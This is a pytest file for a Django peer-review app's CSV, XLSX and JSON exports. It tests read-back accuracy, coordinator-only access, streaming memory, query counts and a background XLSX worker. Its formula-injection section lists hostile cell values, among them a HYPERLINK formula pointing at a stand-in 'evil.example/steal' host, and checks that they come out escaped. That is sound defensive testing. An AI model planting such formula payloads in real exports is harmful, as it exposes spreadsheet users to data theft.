"""Exports read back equal the data: CSV (csv module), XLSX (openpyxl), JSON; and who gets them."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from peerreview import background
from tests import factories
from tests.parallel import clients_of, in_parallel, queued_tasks
from tests.test_report_pdf import PROPOSALS, build_round


def _body(response) -> bytes:
    """Every export is streamed (constant memory): read the whole stream."""
    assert response.streaming, response
    return response.getvalue()


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))


def _xlsx(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(_body(response))).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _download(client, url: str, capture_on_commit):
    """The export's download. An all-rounds XLSX is asked for, then made by the worker while a
    waiting page polls: here the queued job runs at once, in this thread, and the waiting page
    the ask redirects to gets the file."""
    with background.run_inline(), capture_on_commit(execute=True):
        response = client.get(url)
    if response.status_code == 302:
        response = client.get(response["Location"])
    return response


@pytest.fixture
def scored_round(personas):
    review_round, report = build_round(personas)
    lead = review_round.assignments.get(evaluator=personas.assigned_evaluator)
    lead.scores_submitted_at = timezone.now()
    lead.save()
    criteria = [row.criterion for row in report.findings.select_related("criterion__theme")]
    scored = [c for c in criteria if c.theme.is_scored]
    factories.ScoreFactory(assignment=lead, criterion=scored[0], level=4)
    factories.ScoreFactory(assignment=lead, criterion=scored[1], level=None, not_applicable=True)
    return review_round, scored


@pytest.mark.django_db
def test_scores_csv_and_xlsx_read_back(client, personas, scored_round):
    review_round, scored = scored_round
    client.force_login(personas.coordinator)
    url = reverse("reports:export_scores", kwargs={"round_id": review_round.pk})

    rows = _csv(client.get(url))
    header, body = rows[0], rows[1:]
    assert header[4:] == [
        "Criterion code",
        "Criterion",
        "Self-score",
        "Evaluator",
        "Evaluator's city",
        "Evaluator's score",
        "Agreed score",
    ]
    # one row per scored criterion (only the lead has submitted)
    assert [(r[4], r[7], r[9], r[10]) for r in body] == [
        (scored[0].code, personas.assigned_evaluator.full_name, "4", "3"),
        (scored[1].code, personas.assigned_evaluator.full_name, "n/a", "1"),
        (scored[2].code, personas.assigned_evaluator.full_name, "", ""),
    ]
    sheet = _xlsx(client.get(url + "?format=xlsx"))
    assert sheet[0] == header
    assert [(r[4], r[9], r[10]) for r in sheet[1:]] == [
        (scored[0].code, 4, 3),
        (scored[1].code, "n/a", 1),
        (scored[2].code, None, None),
    ]


@pytest.mark.django_db
def test_proposals_export_reads_back(client, personas, scored_round):
    review_round, _scored = scored_round
    client.force_login(personas.assigned_evaluator)
    url = reverse("reports:export_proposals", kwargs={"round_id": review_round.pk})
    rows = _csv(client.get(url))
    assert [(r[3], r[5], r[7], r[9], r[11]) for r in rows[1:]] == [
        (f"AP-{n}", title, priority, "2027", "proposed") for n, (title, priority) in enumerate(PROPOSALS, 1)
    ]
    sheet = _xlsx(client.get(url + "?format=xlsx"))
    assert [r[5] for r in sheet[1:]] == [title for title, _ in PROPOSALS]
    assert client.get(url + "?format=pdf").status_code == 404


@pytest.mark.django_db
def test_round_json_matches_the_command(client, personas, scored_round):
    review_round, _scored = scored_round
    client.force_login(personas.coordinator)
    data = client.get(reverse("reports:export_round_json", kwargs={"round_id": review_round.pk})).json()
    assert data["round"]["id"] == review_round.pk
    assert [c["agreed_score"] for c in data["criteria"]] == [3, 1, None]
    assert data["criteria"][0]["evaluator_scores"] == [
        {"evaluator": personas.assigned_evaluator.full_name, "score": 4}
    ]


@pytest.mark.django_db
def test_cross_round_exports_for_coordinators_only(
    client, personas, scored_round, django_capture_on_commit_callbacks
):
    review_round, _scored = scored_round
    other = factories.RoundFactory(title="Malmö 2026")
    factories.AgreedScoreFactory(
        round=other, criterion=other.framework.themes.first().criteria.first(), level=2
    )
    url = reverse("reports:export_all_scores")
    client.force_login(personas.assigned_evaluator)
    assert client.get(url).status_code == 403
    client.force_login(personas.coordinator)
    body = _csv(client.get(url))[1:]
    assert {"Tampere 2026", "Malmö 2026"} <= {r[1] for r in body}  # and the scheduled repeat round
    url = reverse("reports:export_all_proposals") + "?format=xlsx"
    proposals = _xlsx(_download(client, url, django_capture_on_commit_callbacks))[1:]
    assert [r[5] for r in proposals] == [title for title, _ in PROPOSALS]


@pytest.mark.django_db
def test_host_city_does_not_get_the_evaluators_scores(client, personas, scored_round):
    review_round, _scored = scored_round
    client.force_login(personas.host_member)
    for name in ("reports:export_scores", "reports:export_proposals", "reports:export_round_json"):
        assert client.get(reverse(name, kwargs={"round_id": review_round.pk})).status_code == 403


@pytest.mark.django_db
def test_dashboard_links_coordinators_to_the_cross_round_exports(
    client, personas, scored_round, django_capture_on_commit_callbacks
):
    dashboard = reverse("peerreview:dashboard")
    links = [
        reverse("reports:export_all_scores") + "?format=xlsx",
        reverse("reports:export_all_scores") + "?format=csv",
        reverse("reports:export_all_proposals") + "?format=xlsx",
        reverse("reports:export_all_proposals") + "?format=csv",
    ]
    client.force_login(personas.coordinator)
    page = client.get(dashboard).content.decode()
    assert "Exports across all rounds" in page
    for link in links:
        assert f'href="{link}"' in page
        response = _download(client, link, django_capture_on_commit_callbacks)
        assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
    for user in (personas.host_member, personas.assigned_evaluator):
        client.force_login(user)
        page = client.get(dashboard).content.decode()
        assert "Exports across all rounds" not in page
        assert reverse("reports:export_all_scores") not in page


# --- formula injection (OWASP "CSV injection") ---------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/steal","click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\tTab first",
    "\rCarriage return first",
]


@pytest.fixture
def hostile_round(personas):
    """A round whose texts start like formulas: proposals, the round title, the city's name."""
    from reports.services import save_action_proposals

    review_round, report = build_round(personas, publish=False)
    save_action_proposals(
        report=report,
        rows=[
            {"pk": None, "title": text, "priority": "low", "owner": text, "timeframe": "2027"}
            for text in HOSTILE
        ],
    )
    review_round.title = "=1+1 round"
    review_round.save()
    review_round.host_city.name = "@Tampere"
    review_round.host_city.save()
    return review_round


def _every_export(review_round) -> list[tuple[str, str]]:
    per_round = {"round_id": review_round.pk}
    urls = [
        reverse("reports:export_scores", kwargs=per_round),
        reverse("reports:export_proposals", kwargs=per_round),
        reverse("reports:export_all_scores"),
        reverse("reports:export_all_proposals"),
    ]
    return [(url + f"?format={fmt}", fmt) for url in urls for fmt in ("csv", "xlsx")]


@pytest.mark.django_db
def test_no_export_cell_is_a_formula(client, personas, hostile_round, django_capture_on_commit_callbacks):
    """Every export, CSV and XLSX, per round and across rounds: text that starts like a
    formula is read back as text with a leading quote, and no XLSX cell is a formula."""
    client.force_login(personas.coordinator)
    for url, fmt in _every_export(hostile_round):
        response = _download(client, url, django_capture_on_commit_callbacks)
        assert response.status_code == 200, url
        if fmt == "csv":
            values = [value for row in _csv(response) for value in row]
        else:
            sheet = load_workbook(io.BytesIO(_body(response))).active
            cells = [cell for row in sheet.iter_rows() for cell in row]
            assert [c.coordinate for c in cells if c.data_type == "f"] == [], url
            values = [cell.value for cell in cells]
        texts = [value for value in values if isinstance(value, str) and value]
        assert not [text for text in texts if text[0] in "=+-@\t\r"], url
        assert "'=1+1 round" in texts and "'@Tampere" in texts, url
        if "proposals" in url:
            as_read = {text.replace("\r", "\n") for text in texts}  # XML reads a CR as a line feed
            for text in HOSTILE:
                assert "'" + text.replace("\r", "\n") in as_read, (url, text)


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    from reports.exports import safe_cell

    assert [safe_cell(v) for v in (-3, 2.5, None, "plain", "", "a=b")] == [-3, 2.5, None, "plain", "", "a=b"]
    assert safe_cell("=A1") == "'=A1"


# --- constant memory ---------------------------------------------------------------------------


def _proposals_in_rounds(total: int, *, per_round: int = 500):
    """`total` action proposals spread over published rounds of one framework (bulk inserts)."""
    from reports.models import ActionProposal, SummaryReport

    framework = factories.make_framework()
    city = factories.CityFactory()
    for start in range(0, total, per_round):
        review_round = factories.RoundFactory(host_city=city, framework=framework, state="published")
        report = SummaryReport.objects.create(round=review_round)
        ActionProposal.objects.bulk_create(
            ActionProposal(
                report=report,
                number=number,
                title=f"=Proposal {start + number} " + "text " * 20,
                description="A description of what to do and why. " * 5,
                owner="Procurement unit",
            )
            for number in range(1, min(per_round, total - start) + 1)
        )


def _peak_while_streaming(client, url: str, capture_on_commit) -> tuple[int, int, int]:
    """(peak bytes allocated while the response is made and read chunk by chunk, bytes, chunks).
    An all-rounds XLSX: while the worker's job makes it (here in this thread) and it is read."""
    import tracemalloc

    from reports.models import ExportFile

    ExportFile.objects.all().delete()  # a new file from the rows as they are now
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        response = _download(client, url, capture_on_commit)
        assert response.status_code == 200 and response.streaming, url
        size = chunks = 0
        for chunk in response.streaming_content:
            size += len(chunk)
            chunks += 1  # the test client closes the response at the end of the stream
        return tracemalloc.get_traced_memory()[1], size, chunks
    finally:
        tracemalloc.stop()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name,fmt",
    [
        ("reports:export_all_proposals", "csv"),
        ("reports:export_all_proposals", "xlsx"),
        ("audit:export", "csv"),
    ],
)
def test_exports_stream_in_constant_memory(client, name, fmt, django_capture_on_commit_callbacks):
    """The all-rounds proposals export (CSV, and XLSX made by the worker's job) and the audit
    trail's CSV: the peak memory of making and reading the download is the same for 1,000 and
    for 10,000 rows (4,000 for XLSX), and the response is streamed (many chunks, never one body
    built in memory)."""
    from audit.models import AuditEntry

    client.force_login(factories.CoordinatorFactory())
    url = reverse(name) + f"?format={fmt}"

    def add_rows(count: int) -> None:
        if name == "audit:export":
            AuditEntry.objects.bulk_create(
                AuditEntry(event="download", object_repr=f"=file {n} " + "x" * 200, path="/some/path/")
                for n in range(count)
            )
        else:
            _proposals_in_rounds(count)

    more = 4 if fmt == "xlsx" else 10  # openpyxl under tracemalloc is slow: fewer rows
    add_rows(1_000)
    capture = django_capture_on_commit_callbacks
    _peak_while_streaming(client, url, capture)  # warm up: imports, templates, caches
    small, small_size, _chunks = _peak_while_streaming(client, url, capture)
    add_rows((more - 1) * 1_000)
    large, large_size, chunks = _peak_while_streaming(client, url, capture)

    assert large_size > 0.7 * more * small_size  # `more` times the rows (XLSX is zipped), read to the end
    assert chunks > 20  # streamed
    assert large < 1.5 * small, (small, large)  # flat, not ten times


# --- the scores export: the rows of score_overview, in a bounded number of queries (issue 13) ---


def _overview_rows(rounds) -> list[list]:
    """The oracle: the scores export as it was made before issue 13, from `score_overview` round
    by round (several queries per round), N/A told apart from “not scored” by the Score rows."""
    from peerreview.models import Score
    from peerreview.services.panel import score_overview
    from reports.exports import NOT_APPLICABLE

    def level(value, not_applicable):
        return NOT_APPLICABLE if not_applicable else value

    rows = []
    for review_round in rounds:
        overview = score_overview(review_round)
        na = set(
            Score.objects.filter(assignment__round=review_round, not_applicable=True).values_list(
                "assignment_id", "criterion_id"
            )
        )
        for summary in overview.rows:
            criterion = summary.criterion
            agreed = summary.agreed and level(summary.agreed.level, summary.agreed.not_applicable)
            base = [
                review_round.pk,
                review_round.title,
                review_round.host_city.name,
                criterion.theme.code,
                criterion.code,
                criterion.title,
                level(summary.self_score, summary.self_not_applicable),
            ]
            if not overview.assignments:
                rows.append([*base, "", "", None, agreed])
            for assignment, score in zip(overview.assignments, summary.evaluator_scores, strict=True):
                profile = getattr(assignment.evaluator, "evaluator_profile", None)
                rows.append(
                    [
                        *base,
                        assignment.evaluator.full_name,
                        profile.home_city.name if profile else "",
                        level(score, score is None and (assignment.pk, criterion.pk) in na),
                        agreed,
                    ]
                )
    return rows


def _add_rounds(count: int) -> None:
    """`count` rounds of four kinds in turn, in cities whose names do not follow the order of
    creation: (0) a framework whose criteria are ordered against their creation, a member (who
    has no evaluator profile) and then a lead who submitted, one who has not, a declined and
    an invited one, scores of a level, N/A, empty and missing, self-scores and agreed scores of a
    level and N/A; (1) no panel that submitted, an agreed score, no pre-report; (2) the framework
    of an earlier round, one member, a pre-report without answers; (3) a cancelled round."""
    from cities.models import City
    from peerreview.models import Answer, Criterion, PreReport, Round

    start = Round.objects.count()
    for index in range(start, start + count):
        kind = index % 4
        name = f"{'DCBA'[index % 4]} city {index // 8}"  # rounds 0 and 4 share a city, and so on
        city = City.objects.filter(name=name).first() or factories.CityFactory(name=name)
        if kind == 2:
            framework = Round.objects.order_by("pk").first().framework
        else:
            framework = factories.make_framework()
        if kind == 0:
            later = factories.ThemeFactory(framework=framework, code="HOW", title="How", order=0)
            factories.CriterionFactory(theme=later, code="HOW.2", order=2)
            factories.CriterionFactory(theme=later, code="HOW.1", order=1)
        review_round = factories.RoundFactory(
            host_city=city,
            framework=framework,
            title=f"Round {index}",
            state="cancelled" if kind == 3 else "scoring",
        )
        criteria = list(
            Criterion.objects.filter(theme__framework=framework, theme__is_scored=True).order_by("pk")
        )
        now = timezone.now()
        panel = [factories.AssignmentFactory(round=review_round, state="invited")]
        panel.append(
            factories.AssignmentFactory(round=review_round, state="declined", scores_submitted_at=now)
        )
        if kind in (0, 3):
            panel.append(
                factories.AssignmentFactory(
                    round=review_round, evaluator=factories.UserFactory(), scores_submitted_at=now
                )
            )
            panel.append(
                factories.AssignmentFactory(round=review_round, role="lead", scores_submitted_at=now)
            )
            panel.append(factories.AssignmentFactory(round=review_round))  # not submitted
        if kind == 2:
            panel.append(factories.AssignmentFactory(round=review_round, scores_submitted_at=now))
        for position, assignment in enumerate(panel):
            for number, criterion in enumerate(criteria[position % 2 :]):
                factories.ScoreFactory(
                    assignment=assignment,
                    criterion=criterion,
                    level=None if number % 3 == 1 else (index + number) % 5,
                    not_applicable=number % 3 == 2,
                )
        if kind in (0, 2, 3):
            prereport = PreReport.objects.create(round=review_round)
            if kind != 2:
                Answer.objects.create(prereport=prereport, criterion=criteria[0], self_score=2)
                Answer.objects.create(prereport=prereport, criterion=criteria[1], not_applicable=True)
        if kind != 2:
            factories.AgreedScoreFactory(round=review_round, criterion=criteria[-1], level=index % 5)
        if kind == 0:
            factories.AgreedScoreFactory(
                round=review_round, criterion=criteria[0], level=None, not_applicable=True
            )


@pytest.mark.django_db
@pytest.mark.parametrize("chunk", [500, 2])
def test_scores_export_rows_are_score_overviews(monkeypatch, chunk):
    """The all-rounds scores export gives exactly the rows of score_overview round by round
    (order of rounds, criteria and evaluators, N/A against empty, rounds without a panel), also
    across chunk boundaries; and a single round's export the rows of that round."""
    from reports import exports
    from reports.exports import all_rounds

    monkeypatch.setattr(exports, "EXPORT_CHUNK_ROUNDS", chunk)
    _add_rounds(9)
    expected = _overview_rows(all_rounds())
    assert len({row[0] for row in expected}) == 7  # two cancelled rounds left out
    assert {"n/a", None, 0} <= {row[9] for row in expected} and ["", "", None] in [r[7:10] for r in expected]
    assert list(exports.score_rows(all_rounds())) == expected
    review_round = all_rounds()[1]
    assert list(exports.score_rows([review_round])) == _overview_rows([review_round])


@pytest.mark.django_db
def test_scores_export_queries_do_not_grow_with_the_rounds(client, django_assert_max_num_queries):
    """Nine rounds take the queries three take (a handful per 500 rounds, none per round), and
    the downloads match: the CSV read back is the rows of score_overview."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from reports.exports import all_rounds, score_rows

    def queries() -> int:
        with CaptureQueriesContext(connection) as context:
            rows = list(score_rows(all_rounds()))
        assert rows
        return len(context.captured_queries)

    _add_rounds(3)
    few = queries()
    _add_rounds(6)
    assert queries() == few <= 6  # rounds, criteria, panels, scores, self-scores, agreed scores

    client.force_login(factories.CoordinatorFactory())
    with django_assert_max_num_queries(few + 10):  # and the session, the user, the audit trail
        body = _csv(client.get(reverse("reports:export_all_scores") + "?format=csv"))[1:]
    as_text = [["" if value is None else str(value) for value in row] for row in _overview_rows(all_rounds())]
    assert body == as_text


# --- the all-rounds XLSX: made by the worker, behind a page that waits (issue 13) ---------------

ALL_ROUNDS_XLSX = [
    ("reports:export_all_scores", "scores"),
    ("reports:export_all_proposals", "proposals"),
]


def _expected_rows(kind: str) -> list[list]:
    """The header and the rows of `score_rows`/`proposal_rows`, as a spreadsheet reads them back."""
    from reports.export_files import TABLES
    from reports.exports import all_rounds, safe_row

    table = TABLES[kind]
    rows = [table.headers(), *table.rows(all_rounds())]
    return [[None if value == "" else value for value in safe_row(row)] for row in rows]


@pytest.mark.django_db
@pytest.mark.parametrize("name,kind", ALL_ROUNDS_XLSX)
def test_all_rounds_xlsx_is_made_by_the_worker(
    client, personas, scored_round, name, kind, django_capture_on_commit_callbacks
):
    """The ask redirects to a waiting page (202) that explains and polls; asking again while
    pending makes no second job, nor do the page's reload and poll; the job writes the file; the
    status says ready; the waiting page's download is the rows of the export, read back with
    openpyxl."""
    from reports.models import ExportFile

    client.force_login(personas.coordinator)
    url = reverse(name)
    with django_capture_on_commit_callbacks() as queued:
        asked = client.get(url, {"format": "xlsx"})
        again = client.get(url, {"format": "xlsx"})  # a double click
        pending = client.get(asked["Location"])
        reloaded = client.get(asked["Location"])
    assert asked.status_code == again.status_code == 302
    assert asked["Location"] == again["Location"] == f"{url}?format=xlsx&wait=1"
    assert pending.status_code == reloaded.status_code == 202
    assert pending["Retry-After"] and "no-store" in pending["Cache-Control"]
    page = pending.content.decode()
    assert "The spreadsheet is being prepared" in page and "You may also leave and come back" in page
    assert f'data-pdf-status-url="{url}?format=xlsx&amp;status=1"' in page
    assert f'data-pdf-url="{url}?format=xlsx&amp;wait=1"' in page
    assert len(queued) == 1 and ExportFile.objects.get().is_pending
    assert client.get(url, {"format": "xlsx", "status": "1"}).json() == {"state": "pending"}

    with background.run_inline():
        for callback in queued:
            callback()
    stored = ExportFile.objects.get()
    assert stored.is_ready and stored.kind == kind and stored.requested_by == personas.coordinator
    assert client.get(url, {"format": "xlsx", "status": "1"}).json() == {"state": "ready"}
    response = client.get(url, {"format": "xlsx", "wait": "1"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = _xlsx(response)
    assert len(rows) > 1 and rows == _expected_rows(kind)


@pytest.mark.django_db
def test_all_rounds_xlsx_is_made_again_when_it_is_old(
    client, personas, scored_round, settings, django_capture_on_commit_callbacks
):
    """A file is served for EXPORT_FILE_MAX_AGE_MINUTES; the next ask makes a new one from the
    data as it is then, and the old file is deleted once the new one is made."""
    import datetime

    from reports.models import ExportFile

    client.force_login(personas.coordinator)
    url = reverse("reports:export_all_proposals") + "?format=xlsx"
    assert _download(client, url, django_capture_on_commit_callbacks).status_code == 200
    first = ExportFile.objects.get()
    old = timezone.now() - datetime.timedelta(minutes=settings.EXPORT_FILE_MAX_AGE_MINUTES + 1)
    ExportFile.objects.filter(pk=first.pk).update(rendered_at=old, requested_at=old)
    with django_capture_on_commit_callbacks() as queued:
        assert client.get(url).status_code == 302
    assert len(queued) == 1
    with background.run_inline():
        queued[0]()
    assert client.get(url + "&wait=1").status_code == 200
    [second] = ExportFile.objects.all()
    assert second.pk != first.pk and not first.file.storage.exists(first.file.name)


@pytest.mark.django_db
def test_a_failed_all_rounds_xlsx_says_so(
    client, personas, scored_round, monkeypatch, django_capture_on_commit_callbacks
):
    from reports import export_files

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(export_files, "write_xlsx", broken)
    client.force_login(personas.coordinator)
    url = reverse("reports:export_all_scores")
    with background.run_inline(), django_capture_on_commit_callbacks(execute=True):
        client.get(url, {"format": "xlsx"})
    assert client.get(url, {"format": "xlsx", "status": "1"}).json() == {"state": "failed"}
    page = client.get(url, {"format": "xlsx", "wait": "1"})
    assert page.status_code == 200 and "could not be prepared" in page.content.decode()
    assert f'href="{url}?format=xlsx" data-pdf-ask>' in page.content.decode()  # ask again, shown


def _last_export(kind: str, how: str):
    """The export's latest row as a waiting page left open may find it: failed past the minute
    after which an ask tries again, made longer ago than the freshness window, or lost (pending
    past `STALE_AFTER`: the worker restarted)."""
    import datetime

    from django.core.files.base import ContentFile

    from reports import export_files
    from reports.models import ExportFile

    now = timezone.now()
    if how == "failed":
        return ExportFile.objects.create(
            kind=kind,
            language="en",
            requested_at=now - 2 * export_files.FAILED_RETRY_AFTER,
            error="OSError: disk full",
        )
    if how == "lost":
        return ExportFile.objects.create(
            kind=kind,
            language="en",
            requested_at=now - export_files.STALE_AFTER - datetime.timedelta(minutes=1),
        )
    old = now - export_files.max_age() - datetime.timedelta(minutes=1)
    stored = ExportFile(kind=kind, language="en", requested_at=old, rendered_at=old)
    stored.file.save("all-rounds-scores.xlsx", ContentFile(b"PK\x03\x04 a workbook"))
    return stored


@pytest.mark.django_db
@pytest.mark.parametrize(
    "how,state,says",
    [
        ("failed", "failed", "could not be prepared"),
        ("old", "none", "too old or gone"),
        ("lost", "none", "too old or gone"),
    ],
)
def test_the_waiting_page_and_its_poll_never_ask_only_the_coordinator_does(
    client, personas, how, state, says, django_capture_on_commit_callbacks
):
    """A waiting page left open (or opened again) after a failure, past the file's freshness
    window or after a lost job: its poll and its reload say so and offer to ask again, with no
    new row and no job queued; the coordinator's ask then queues one."""
    from reports.models import ExportFile

    client.force_login(personas.coordinator)
    url = reverse("reports:export_all_scores")
    last = _last_export("scores", how)
    with django_capture_on_commit_callbacks() as queued:
        for _poll in range(3):
            assert client.get(url, {"format": "xlsx", "status": "1"}).json() == {"state": state}
        page = client.get(url, {"format": "xlsx", "wait": "1"})
    assert queued == [] and list(ExportFile.objects.all()) == [last]
    assert page.status_code == 200 and "Retry-After" not in page
    text = page.content.decode()
    assert says in text and f'data-pdf-state="{state}"' in text
    assert f'href="{url}?format=xlsx" data-pdf-ask>' in text  # shown; the download button hidden
    assert f'href="{url}?format=xlsx&amp;wait=1" data-pdf-download hidden>' in text

    with django_capture_on_commit_callbacks() as queued:
        asked = client.get(url, {"format": "xlsx"})
    assert asked.status_code == 302 and asked["Location"] == f"{url}?format=xlsx&wait=1"
    assert len(queued) == 1
    pending = ExportFile.objects.get(rendered_at__isnull=True, error="")
    assert (pending.pk == last.pk) == (how == "lost")  # a lost job is queued again, not copied
    assert client.get(url, {"format": "xlsx", "status": "1"}).json() == {"state": "pending"}


@pytest.mark.django_db(transaction=True)
def test_asking_at_once_from_several_tabs_queues_one_job(broker_queue):
    """A double click, or coordinators asking together: real parallel requests on PostgreSQL
    (tests/parallel.py) make one pending row (its unique constraint) and queue one job on the
    broker; every ask is sent to the same waiting page."""
    from reports.models import ExportFile

    coordinator = factories.CoordinatorFactory()
    clients = clients_of(coordinator)
    url = reverse("reports:export_all_scores")

    responses = in_parallel(*(lambda c=c: c.get(url, {"format": "xlsx"}) for c in clients))

    assert [response.status_code for response in responses] == [302] * len(clients)
    assert {response["Location"] for response in responses} == {f"{url}?format=xlsx&wait=1"}
    [stored] = ExportFile.objects.all()
    assert stored.is_pending and stored.requested_by == coordinator
    assert queued_tasks(broker_queue) == [("reports.tasks.make_export_file", [stored.pk])]


@pytest.mark.django_db
@pytest.mark.parametrize("name,kind", ALL_ROUNDS_XLSX)
def test_all_rounds_xlsx_for_coordinators_only(
    client, personas, scored_round, name, kind, django_capture_on_commit_callbacks
):
    """Asking, the poll and the download: a 403 for everyone but coordinators (the file exists)."""
    client.force_login(personas.coordinator)
    url = reverse(name)
    assert _download(client, url + "?format=xlsx", django_capture_on_commit_callbacks).status_code == 200
    for persona in ("host_member", "other_city_member", "assigned_evaluator", "unassigned_evaluator"):
        client.force_login(getattr(personas, persona))
        for query in ({"format": "xlsx"}, {"format": "xlsx", "wait": "1"}, {"format": "xlsx", "status": "1"}):
            assert client.get(url, query).status_code == 403, (persona, query)
    client.logout()
    assert client.get(url, {"format": "xlsx", "status": "1"}).status_code == 302
